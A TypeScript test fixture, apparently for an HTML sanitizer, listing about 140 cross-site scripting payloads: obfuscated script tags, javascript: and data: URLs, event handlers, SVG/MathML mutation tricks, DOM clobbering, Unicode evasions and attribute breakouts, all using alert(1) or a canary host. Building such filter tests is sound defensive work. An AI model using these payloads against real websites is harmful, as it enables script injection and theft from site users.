/** Site that all pictures, styles and scripts in the attacks refer to; it must never be requested. */
export const CANARY = 'https://canary.example';

/** Address of a picture of this site, which a filter must allow. */
const picture = `/api/media/catalogue/${'a'.repeat(64)}/1280.webp`;
const base64Page = 'PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=';

/** Scripts and event handlers in spellings that simple filters overlook. */
const spellings = [
  '<script>alert(1)</script>',
  '<ScRiPt\n>alert(1)</sCrIpT\t>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  `<script src=${CANARY}/s.js></script>`,
  `<script type=module>import "${CANARY}/m.js"</script>`,
  '<script>/*</script>*/alert(1)</script>',
  '<script\u000b>alert(1)</script>',
  '<p\u0000><scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  "<img src='x'onerror='alert(1)'>",
  '<img src=x:x onerror="alert&lpar;1&rpar;">',
  '<img src=x onerror\u000b=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img alt="`><img src=x onerror=alert(1)>`" src="x">',
  `<img src="${picture}" onload="alert(1)" style="background:url(javascript:alert(1))">`,
  `<img src="${picture}" alt="&quot;><script>alert(1)</script>">`,
  '<p/onclick=alert(1)//x>',
  '<p onmouseover="alert(1)" class="x" id="main" style="color:red">x</p>',
  '<p onanimationstart=alert(1) style="animation:turn 1s">x</p>',
  '<body onload=alert(1)>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>',
  '<xss contenteditable autofocus tabindex=0 onfocus=alert(1)>x</xss>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p autofocus>x</button>',
  '</ <img src=x onerror=alert(1)>>',
  '</p\u0000<img src=x onerror=alert(1)>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
];

/** Attributes with addresses that execute code or lead to other sites. */
const addresses = [
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="javas&Tab;cript:alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="\ufeffjavascript:alert(1)">x</a>',
  '<a href="\uff4aavascript:alert(1)">x</a>',
  '<a href="java\u017fcript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  `<a href="data:text/html;base64,${base64Page}">x</a>`,
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://ok.example/1">x</a>',
  '<a href="//canary.example/x">x</a>',
  '<a href="\\\\canary.example/x">x</a>',
  '<a href="/\\canary.example/x">x</a>',
  '<a href="/\t/canary.example/x">x</a>',
  '<a href="https://ok.example" target="_top" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  `<a href="https://ok.example/" ping="${CANARY}/ping" download>x</a>`,
];

/** Elements that load or open something without a click. */
const loads = [
  `<img src="${CANARY}/pixel.gif" alt="x">`,
  `<img srcset="${CANARY}/1.gif 1x" src=x>`,
  `<picture><source srcset="${CANARY}/p.webp"><img alt=""></picture>`,
  `<video poster="${CANARY}/v.png" autoplay onplay=alert(1)></video>`,
  `<input type=image src=${CANARY}/i.png onerror=alert(1)>`,
  `<p style="background-image:url(${CANARY}/c.png)">x</p>`,
  `<table background="${CANARY}/t.png"><td background="javascript:alert(1)">x</table>`,
  `<link rel="stylesheet" href="${CANARY}/x.css"><style>@import "${CANARY}/y.css";</style>`,
  `<style>*{background:url(${CANARY}/s.png)}</style>`,
  `<link rel=prefetch href="${CANARY}/l">`,
  `<iframe/onload=alert(1) src=${CANARY}/f></iframe>`,
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  `<iframe src="data:text/html;base64,${base64Page}"></iframe>`,
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  `<base href="${CANARY}/"><a href="x">x</a>`,
  `<meta http-equiv="refresh" content="0;url=${CANARY}/r">`,
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
];

/** Elements of SVG and MathML, and markup that becomes harmful only when a parser repairs it. */
const mutations = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><desc><svg><script>alert(1)</script></svg></desc></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)" onbegin=alert(1) /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  `<svg><image href="${CANARY}/a.svg"/><use href="${CANARY}/u.svg#x"/></svg>`,
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><g title="</style><img src onerror=alert(1)>">',
  '<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>',
  '<svg><title><style><a id="</style></title><img src=x onerror=alert(1)>">',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form><input></form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<svg><foreignObject><p><textarea></foreignObject><img src=x onerror=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<template><style></template><img src=x onerror=alert(1)>',
  '<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>',
  '<div><template shadowrootmode="open"><script>alert(1)</script><img src=x onerror=alert(1)></template></div>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<table><td><script>alert(1)</script></td><svg><desc><img src=x onerror=alert(1)></desc></svg></table>',
  '<table><tr><td><table></td><img src=x onerror=alert(1)>',
  `${'<b>'.repeat(520)}<img src=x onerror=alert(1)>`,
  `${'<ul><li>'.repeat(300)}<svg><style><a id="</style><img src=x onerror=alert(1)>">`,
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
  '<?php echo "<img src=x onerror=alert(1)>" ?>',
  '<textarea><p alt="</textarea><img src=x onerror=alert(1)>">',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing><plaintext><img src=x onerror=alert(1)>',
];

/** Names of elements that replace variables of the page, and letters that change when text is normalised. */
const namesAndLetters = [
  '<form id=document><input name=cookie></form><img name=body><a id=window name=alert href="#">x</a>',
  '<a id=defaultView></a><a id=defaultView name=location href="javascript:alert(1)">x</a>',
  '<form id=x tabindex=0 onfocus=alert(1) autofocus><input name=attributes><input name=nodeName></form>',
  '<img id=main name=getElementById><img name=querySelector><form name=firstChild></form>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '<\u0131mg src=x onerror=alert(1)>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u226escript\u226falert(1)',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<img src=x on\u00aderror=alert(1)><img src=x \u2028onerror=alert(1)>',
];

/** Known ways of getting markup past a filter. Executed code calls `alert`, loaded resources request the canary. */
export const markupEvasions: readonly string[] = [
  ...spellings,
  ...addresses,
  ...loads,
  ...mutations,
  ...namesAndLetters,
];

/**
 * Attacks for texts that contain no markup, such as names: they try to break out of an element, an attribute, a
 * script or a title.
 */
export const lineEvasions: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '<!--<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}',
  'javascript:alert(1)//',
  '\u2028alert(1)\u2029',
  '&lt;img src=x onerror=alert(1)&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];
